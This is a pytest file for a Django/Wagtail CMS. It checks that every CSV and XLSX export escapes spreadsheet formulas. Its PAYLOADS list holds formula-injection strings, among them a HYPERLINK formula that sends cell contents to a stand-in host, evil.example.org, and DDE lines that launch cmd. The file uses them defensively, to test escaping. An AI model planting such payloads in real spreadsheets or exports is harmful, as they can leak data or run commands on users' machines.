"""Every CSV and XLSX export neutralises formulas (``network.spreadsheets``): the CMS exports of
our snippets and Wagtail's own reports, checked through the URLs a coordinator downloads; and a
walk over the URLconf that fails when an export view does not use the escaping mixin, so that
a new export cannot be added without it. (The practice exports: tests/practices/test_outputs.)"""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.urls import URLPattern, URLResolver, get_resolver, resolve
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.models import FormMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import GroupApprovalTask, Page, Workflow, WorkflowPage, WorkflowTask

from network.roles import Role
from network.spreadsheets import FORMULA_TRIGGERS, SpreadsheetSafeExportMixin, spreadsheet_safe
from tests.factories import EventRegistrationFactory, JoinRequestFactory, UserFactory
from tests.network.conftest import person, sign_in, totp_add
from tests.outreach import builders

PAYLOADS = [
    '=HYPERLINK("http://evil.example.org/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cms_login(client, user) -> None:
    """The one way these tests enter the CMS: allauth's sign-in with the second factor."""
    sign_in(client, user)


def _cells(response, export_format: str) -> list[list]:
    content = b"".join(response.streaming_content)
    if export_format == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def _assert_neutralised(rows: list[list], payload: str) -> None:
    """The payload is there, with its apostrophe, and no text cell would run as a formula."""
    # XLSX stores a carriage return as a line feed.
    cells = [c.replace("\n", "\r") if isinstance(c, str) else c for row in rows for c in row]
    assert f"'{payload}" in cells
    assert payload not in cells
    assert not [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_TRIGGERS)]


# -- The function and the mixin -----------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_would_run_as_a_formula_gets_an_apostrophe(payload):
    assert spreadsheet_safe(payload) == f"'{payload}"


@pytest.mark.parametrize(
    "value", ["Health desk", "Rosa Quispe", "a=b", "", None, 42, -5, -2.5, timezone.now()]
)
def test_ordinary_values_and_numbers_stay_as_they_are(value):
    """Negative numbers in numeric columns stay numbers: only text can carry a formula."""
    assert spreadsheet_safe(value) == value


def test_the_mixin_escapes_values_after_wagtails_preprocessing_and_keeps_numbers():
    class Export(SpreadsheetSafeExportMixin, SpreadsheetExportMixin):
        list_export = ["name"]

    view = Export()
    for export_format in ("csv", "xlsx"):
        assert view.preprocess_field_value("name", "=1+1", export_format) == "'=1+1"
        assert view.preprocess_field_value("count", -3, export_format) == -3
    assert view.preprocess_field_value("user", UserFactory.build(first_name="=X"), "csv")[0] != "="


# -- Our snippets' exports -----------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_join_request_export_neutralises_what_the_public_form_received(
    client, payload, export_format
):
    JoinRequestFactory(authority_name=payload, contact_name="Rosa Quispe", region="-12")
    cms_login(client, person(Role.COORDINATOR))

    response = client.get("/cms/snippets/network/joinrequest/", {"export": export_format})

    assert response.status_code == 200
    rows = _cells(response, export_format)
    _assert_neutralised(rows, payload)
    assert "Rosa Quispe" in rows[1]
    assert "'-12" in rows[1]  # text, not a number: it could as well be "-1+cmd"


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_event_registration_export_neutralises_names_people_typed(client, export_format):
    event = builders.event_page(builders.event_index(builders.homes()["en"]), slug="forum")
    attendee = UserFactory(first_name="=HYPERLINK(1)", last_name="", email="=x@example.org")
    EventRegistrationFactory(event=event, user=attendee)
    cms_login(client, _superuser())

    response = client.get("/cms/snippets/outreach/eventregistration/", {"export": export_format})

    assert response.status_code == 200
    rows = _cells(response, export_format)
    assert len(rows) == 2
    assert not [c for c in rows[1] if isinstance(c, str) and c.startswith(FORMULA_TRIGGERS)]
    assert str(attendee) in "".join(str(c) for c in rows[1])


# -- Wagtail's own reports -----------------------------------------------------------------------


def _superuser():
    user = person(is_superuser=True, is_staff=True)
    totp_add(user)
    return user


@pytest.fixture
def page_with_formula_title(db):
    """A published, locked page in a workflow, titled like a hostile proposal."""
    editor = _superuser()
    page = builders.standard_page(builders.homes()["en"], slug="formula", title=PAYLOADS[0])
    workflow = Workflow.objects.create(name="Review")
    task = GroupApprovalTask.objects.create(name="Check")
    task.groups.add(Group.objects.get_or_create(name="Moderators")[0])
    WorkflowTask.objects.create(workflow=workflow, task=task, sort_order=1)
    WorkflowPage.objects.create(workflow=workflow, page=page)
    page.save_revision(user=editor)
    workflow.start(page, editor)
    Page.objects.filter(pk=page.pk).update(
        last_published_at=timezone.now() - timedelta(days=400),
        locked=True,
        locked_by=editor,
        locked_at=timezone.now(),
    )
    Redirect.objects.create(old_path="/old", redirect_link=PAYLOADS[0])
    return editor


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize(
    "url",
    [
        "/cms/reports/locked/",
        "/cms/reports/workflow/",
        "/cms/reports/workflow_tasks/",
        "/cms/reports/site-history/",
        "/cms/reports/aging-pages/",
        "/cms/reports/aging-pages/results/",
        "/cms/redirects/",
    ],
)
def test_wagtail_reports_neutralise_page_titles(
    client, page_with_formula_title, url, export_format
):
    cms_login(client, page_with_formula_title)

    response = client.get(url, {"export": export_format})

    assert response.status_code == 200
    _assert_neutralised(_cells(response, export_format), PAYLOADS[0])


@pytest.mark.django_db
def test_the_reports_stay_behind_the_admin_access_check(client):
    assert client.get("/cms/reports/site-history/", {"export": "csv"}).status_code == 302
    client.force_login(UserFactory())
    response = client.get("/cms/reports/site-history/", {"export": "csv"})
    assert response.status_code in (302, 403)
    assert response.get("Content-Type") != "text/csv"


# -- Every export view uses the mixin ------------------------------------------------------------


def _route_patterns(patterns, prefix: str = ""):
    for pattern in patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            yield from _route_patterns(pattern.url_patterns, route)
        elif isinstance(pattern, URLPattern):
            yield route, pattern


def _sample_path(route: str, pattern: URLPattern) -> str:
    """A path that ``pattern`` matches, its parameters filled with 1."""
    path = route.replace("^", "").replace("$", "")
    for _name in getattr(pattern.pattern, "converters", {}):
        start = path.index("<")
        path = path[:start] + "1" + path[path.index(">", start) + 1 :]
    assert "<" not in path and "(" not in path, f"cannot build a path for {route}"
    return "/" + path


def _exports_data(callback) -> bool:
    view_class = getattr(callback, "view_class", None)
    if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
        return False
    return bool(callback.view_initkwargs.get("list_export", view_class.list_export))


def test_every_export_in_the_urlconf_is_served_by_an_escaping_view():
    """Walks every URL; each one served by a view that exports columns must, once resolved
    (our patterns shadow Wagtail's), reach a view with ``SpreadsheetSafeExportMixin``."""
    exporting = [
        (route, pattern)
        for route, pattern in _route_patterns(get_resolver().url_patterns)
        if _exports_data(pattern.callback)
    ]
    assert len(exporting) >= 10  # the two snippets and Wagtail's reports, at least
    unsafe = []
    for route, pattern in exporting:
        served_by = resolve(_sample_path(route, pattern)).func.view_class
        if not issubclass(served_by, SpreadsheetSafeExportMixin):
            unsafe.append(f"{route} ({served_by.__module__}.{served_by.__qualname__})")
    assert unsafe == []


def test_form_pages_export_submissions_through_the_escaping_mixin():
    """Form submissions are exported by the view the form page names; there is none today,
    and any future one must name an escaping view."""
    from django.apps import apps

    for model in apps.get_models():
        if issubclass(model, FormMixin):
            view_class = model.submissions_list_view_class
            assert view_class and issubclass(view_class, SpreadsheetSafeExportMixin), model
